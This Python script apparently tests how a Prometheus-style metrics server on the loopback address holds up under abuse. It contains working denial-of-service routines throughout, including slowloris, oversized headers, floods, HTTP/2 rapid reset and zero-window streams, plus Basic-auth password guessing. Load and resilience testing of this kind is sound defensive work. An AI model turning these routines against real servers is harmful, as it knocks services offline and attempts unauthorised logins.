"""Clients that want too much: one attack for so many seconds, from several addresses of the loopback.

abuse.py ATTACK PORT SECONDS CONNECTIONS ADDRESSES [tls]

Keeps CONNECTIONS busy with the attack, prints "attacking" when the first of them are there, and at the end what came of it as JSON.
"""

import asyncio
import base64
import collections
import contextlib
import json
import logging
import ssl
import struct
import sys

ATTACK, PORT, SECONDS, CONNECTIONS, ADDRESSES = sys.argv[1], *map(int, sys.argv[2:6])
TLS = None
if "tls" in sys.argv[6:]:
    TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    TLS.check_hostname = False
    TLS.verify_mode = ssl.CERT_NONE
    if ATTACK.startswith("h2"):
        TLS.set_alpn_protocols(["h2"])

SMALL = b"GET /-/ready HTTP/1.1\r\nHost: x\r\n\r\n"
SCRAPE = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"
# A TLS record that announces 512 bytes of handshake, and a ClientHello's first bytes.
HALF_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"

told = collections.Counter()
# It warns of each write to a connection that the other end has closed, which is what these attacks are about.
logging.getLogger("asyncio").setLevel(logging.ERROR)


@contextlib.asynccontextmanager
async def connection(number, tls=TLS, limit=65536):
    """Reader and writer of a connection that is closed afterwards."""
    source = f"127.0.1.{1 + number % ADDRESSES}"
    reader, writer = await asyncio.open_connection("127.0.0.1", PORT, local_addr=(source, 0), ssl=tls, limit=limit)
    told["connected"] += 1
    try:
        yield reader, writer
    finally:
        writer.close()


async def answer(reader):
    """Reads one answer; its status."""
    head = await reader.readuntil(b"\r\n\r\n")
    length = next(line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:"))
    await reader.readexactly(int(length.split(b":")[1]))
    status = head.split()[1].decode()
    told[f"status {status}"] += 1
    return status


async def to_the_end(reader):
    while await reader.read(65536):
        pass


# Each takes one connection through the attack, once.

async def idle(number):
    """Asks once, keeps the connection."""
    async with connection(number) as (reader, writer):
        writer.write(SMALL)
        await answer(reader)
        await to_the_end(reader)


async def silent(number):
    """Connects, and says nothing: in TLS, not even hello."""
    async with connection(number, tls=None) as (reader, _):
        await to_the_end(reader)


async def half_hello(number):
    """Begins a handshake and does not end it."""
    async with connection(number, tls=None) as (reader, writer):
        writer.write(HALF_HELLO)
        await to_the_end(reader)


async def slow_headers(number):
    """A header now and then, for ever."""
    async with connection(number) as (reader, writer):
        end = asyncio.ensure_future(to_the_end(reader))
        try:
            writer.write(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
            while not end.done():
                writer.write(b"X-Slow: yes\r\n")
                await asyncio.sleep(0.5)
        finally:
            end.cancel()


async def huge_headers(number):
    """Headers without end."""
    async with connection(number) as (reader, writer):
        writer.write(b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Huge: ")
        for _ in range(1024):
            writer.write(b"x" * 4096)
            await writer.drain()


async def flood(number):
    """Scrapes, one after the other, as fast as they are answered."""
    async with connection(number) as (reader, writer):
        while True:
            writer.write(SCRAPE)
            await answer(reader)


async def pipeline(number):
    """A thousand requests at once, and reads the answers."""
    async with connection(number) as (reader, writer):
        writer.write(SMALL * 1000)
        for _ in range(1000):
            await answer(reader)


async def deaf(number):
    """Asks as long as it can, and never reads an answer."""
    async with connection(number, limit=1) as (_, writer):
        while True:
            writer.write(SCRAPE * 100)
            await writer.drain()


async def handshakes(number):
    """Handshakes, and nothing after them."""
    async with connection(number):
        pass


async def guesses(number):
    """Guesses passwords."""
    async with connection(number) as (reader, writer):
        while True:
            told["guesses"] += 1
            guess = base64.b64encode(f"prometheus:guess{told['guesses']}".encode())
            writer.write(SCRAPE[:-2] + b"Authorization: Basic " + guess + b"\r\n\r\n")
            await answer(reader)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def get(stream):
    """HEADERS of GET /metrics; END_STREAM and END_HEADERS."""
    path = b"/metrics"
    block = b"\x82\x87\x04" + bytes([len(path)]) + path + b"\x01\x01x"
    return frame(1, 5, stream, block)


def preface(settings=b""):
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings)


async def frames(reader):
    """Counts the frames that come, to the end."""
    names = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 7: "GOAWAY"}
    while True:
        try:
            head = await reader.readexactly(9)
            await reader.readexactly(int.from_bytes(head[:3], "big"))
        except (OSError, asyncio.IncompleteReadError):
            return
        told["h2 " + names.get(head[3], "other")] += 1


async def begin_streams(writer, end, first, reset):
    for stream in range(first, 200_000, 2):
        if end.done():
            break
        writer.write(get(stream) + (frame(3, 0, stream, struct.pack(">I", 8)) if reset else b""))
        await writer.drain()
        # drain() does not let others run while there is room.
        await asyncio.sleep(0)
        told["streams"] += 1


async def h2_streams(number):
    """Streams whose answers have no window to go into: as many as are allowed, and after a while as many as can be sent."""
    async with connection(number) as (reader, writer):
        end = asyncio.ensure_future(frames(reader))
        try:
            # SETTINGS_INITIAL_WINDOW_SIZE 0
            writer.write(preface(struct.pack(">HI", 4, 0)) + b"".join(get(stream) for stream in range(1, 33, 2)))
            await asyncio.wait([end], timeout=2)
            await begin_streams(writer, end, 33, reset=False)
            await end
        finally:
            end.cancel()


async def h2_resets(number):
    """Streams that are reset as soon as they are begun."""
    async with connection(number) as (reader, writer):
        end = asyncio.ensure_future(frames(reader))
        try:
            writer.write(preface())
            await begin_streams(writer, end, 1, reset=True)
            await end
        finally:
            end.cancel()


async def again(attack, number, until):
    """Takes up the attack each time it has ended."""
    clock = asyncio.get_running_loop().time
    while clock() < until:
        try:
            await asyncio.wait_for(attack(number), max(0.1, until - clock()))
        except asyncio.TimeoutError:
            told["held to the end"] += 1
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError) as error:
            told[type(error).__name__] += 1
            # The bound of this program: not as fast as the processor allows.
            await asyncio.sleep(0.05)
        else:
            told["ended"] += 1
            await asyncio.sleep(0.05)


async def main():
    attack = globals()[ATTACK]
    until = asyncio.get_running_loop().time() + SECONDS
    tasks = [asyncio.ensure_future(again(attack, number, until)) for number in range(CONNECTIONS)]
    while not told["connected"] and not all(task.done() for task in tasks):
        await asyncio.sleep(0.01)
    print("attacking", flush=True)
    await asyncio.gather(*tasks)


asyncio.run(main())
print(json.dumps(told), flush=True)
